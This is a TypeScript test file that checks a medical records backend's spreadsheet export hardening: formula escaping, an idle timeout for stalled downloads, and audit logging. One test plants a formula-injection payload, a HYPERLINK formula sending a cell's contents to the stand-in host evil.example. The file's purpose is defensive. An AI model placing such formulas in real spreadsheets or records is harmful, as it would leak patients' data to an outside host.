import { connect, type Socket } from 'node:net';
import { Writable } from 'node:stream';
import { API_BASE, DEFAULT_INSTITUTIONS, TOKEN_HEADER } from '@tcm/contracts';
import { ExportPaths, XLSX_CONTENT_TYPE } from '@tcm/contracts/api/exports';
import { and, desc, eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../src/app';
import { ConfigError, loadConfig } from '../src/config';
import { auditLog } from '../src/db/schema';
import { workbooksInProgress } from '../src/modules/exports/xlsx-worker-client';
import { databaseKinds } from './support/databases';
import { createBulkFollowUps } from './support/export-fixtures';
import { type AccountFixture, backdateEnrolment, createAdmin, createDoctor, daysAgo, enrolPatient, loginAs } from './support/factories';
import { createTestApp, INSTITUTION_B, type TestApp } from './support/test-app';
import { waitFor } from './support/wait-for';
import { download, openWorkbook, readSheet } from './support/xlsx';

const INSTITUTION_C = DEFAULT_INSTITUTIONS[2]!.id;
/** Follow-ups of the bulk patient: ~18 MB of zip, far more than a socket holds (Linux sends at most 4 MB ahead). */
const BULK_FOLLOW_UPS = 4000;
/** Small, so that the test waits out a stall in a moment; production default is 60 s. */
const IDLE_MS = 300;

/** Sends an export request from a client that never reads the answer: its socket fills and stays full. */
function stalledDownload(port: number, path: string, token: string): Socket {
  const socket = connect({ port, host: '127.0.0.1' });
  socket.pause();
  // The server cuts the connection off: that is the point, not a failure.
  socket.on('error', () => undefined);
  socket.write(`GET ${API_BASE}${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${TOKEN_HEADER}: ${token}\r\n\r\n`);
  return socket;
}

describe('export idle timeout setting', () => {
  it('reads EXPORT_IDLE_TIMEOUT_SECONDS (60 s unless set) and refuses values outside 5–3600', () => {
    expect(loadConfig({}).exportIdleTimeoutMs).toBe(60_000);
    expect(loadConfig({ EXPORT_IDLE_TIMEOUT_SECONDS: '90' }).exportIdleTimeoutMs).toBe(90_000);
    for (const bad of ['0', '4', '3601', '1.5', 'soon']) {
      expect(() => loadConfig({ EXPORT_IDLE_TIMEOUT_SECONDS: bad }), bad).toThrow(ConfigError);
    }
  });
});

describe.each(databaseKinds())('export hardening on %s', (kind) => {
  let t: TestApp;
  let server: FastifyInstance;
  let port: number;
  let doctorC: AccountFixture & { institutionId: number };
  let doctorB: AccountFixture;
  let tokenB: string;
  const logs: string[] = [];

  beforeAll(async () => {
    t = await createTestApp(kind);
    doctorC = { ...(await createDoctor(t, { institutionId: INSTITUTION_C })), institutionId: INSTITUTION_C };
    await createBulkFollowUps(t, doctorC, BULK_FOLLOW_UPS);
    doctorB = await createDoctor(t, { institutionId: INSTITUTION_B, name: '乙院医生' });
    tokenB = await loginAs(t, doctorB);
    // The same database served on a real socket (a stalled client needs one), with a short idle timeout.
    ({ app: server } = await buildApp({
      config: { ...t.config, exportIdleTimeoutMs: IDLE_MS, logLevel: 'warn' },
      database: t.database,
      logStream: new Writable({
        write(chunk, _encoding, done) {
          logs.push(String(chunk));
          done();
        },
      }),
    }));
    await server.listen({ port: 0, host: '127.0.0.1' });
    port = (server.server.address() as { port: number }).port;
  }, 120_000);
  afterAll(async () => {
    await server?.close();
    await t?.close();
  });

  const exportAudits = (actorId: number) =>
    t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'export'), eq(auditLog.actorId, actorId)))
      .orderBy(desc(auditLog.id));
  const outcomeOf = (row: { detail: unknown }) => (row.detail as { outcome?: string }).outcome;

  it('writes formula-like free text so that no spreadsheet evaluates it, while numbers (negative too) stay numbers', async () => {
    const patient = await enrolPatient(t, tokenB, { institutionId: INSTITUTION_B, name: '公式患者' });
    await backdateEnrolment(t, patient.id, daysAgo(20));
    const record = async (annex: string, data: Record<string, unknown>) => {
      const res = await t.call({
        method: 'POST',
        path: `/api/annex/${annex}/records`,
        token: tokenB,
        body: { patientId: patient.id, data },
      });
      expect(res.code, res.message).toBe(0);
    };
    const formula = '=HYPERLINK("http://evil.example/?d="&E2,"查看详情")';
    await record('6', { examDate: daysAgo(20), height: 170, weight: 80 });
    await record('7', {
      visitDate: daysAgo(5),
      way: 'clinic',
      weight: 76,
      symptoms: ['other'],
      symptomsOther: '+头晕',
      problems: formula,
      guidance: '@SUM(A1:A9)',
    });

    const res = await download(t, ExportPaths.annex7, tokenB);
    expect(res.status, JSON.stringify(res.envelope)).toBe(200);
    const row = readSheet(await openWorkbook(res.body), '随访记录').rows.find((r) => r.姓名 === '公式患者');
    expect(row).toMatchObject({ 存在问题: `'${formula}`, 本次指导: "'@SUM(A1:A9)", 其他症状: "'+头晕" });
    // (76 − 80) / 80 = −5 %: a number cell, not text with a quote.
    expect(row?.体重较基线变化).toBe(-5);
  });

  it('cuts off exports whose clients stop reading, frees their places, stops their workers and audits them aborted', async () => {
    const tokenC = await loginAs(t, doctorC);
    const admin = await createAdmin(t);
    const adminToken = await loginAs(t, admin);
    // EXPORT_CONCURRENCY is 2: these two (one user and one institution each, the admin counting as one)
    // would hold both places for ever.
    const clients = [stalledDownload(port, ExportPaths.annex7, tokenC), stalledDownload(port, ExportPaths.annex7, adminToken)];
    try {
      await waitFor(
        async () => {
          const audits = [...(await exportAudits(doctorC.id)), ...(await exportAudits(admin.id))];
          return audits.length === 2 && audits.every((row) => outcomeOf(row) === 'aborted');
        },
        'both stalled exports audited as aborted',
        30_000,
      );
      expect(logs.filter((line) => line.includes('export cut off: the client took no bytes'))).toHaveLength(2);
      await waitFor(() => workbooksInProgress() === 0, 'their workers stopped', 30_000);

      // A third export gets a place and completes.
      const third = await fetch(`http://127.0.0.1:${port}${API_BASE}${ExportPaths.annex7}`, { headers: { [TOKEN_HEADER]: tokenB } });
      expect(third.status).toBe(200);
      expect(third.headers.get('content-type')).toBe(XLSX_CONTENT_TYPE);
      expect(readSheet(await openWorkbook(Buffer.from(await third.arrayBuffer())), '随访记录').headers).toContain('存在问题');
      const [thirdAudit] = await exportAudits(doctorB.id);
      expect(thirdAudit && outcomeOf(thirdAudit)).toBe('completed');
    } finally {
      for (const client of clients) client.destroy();
    }
  });
});
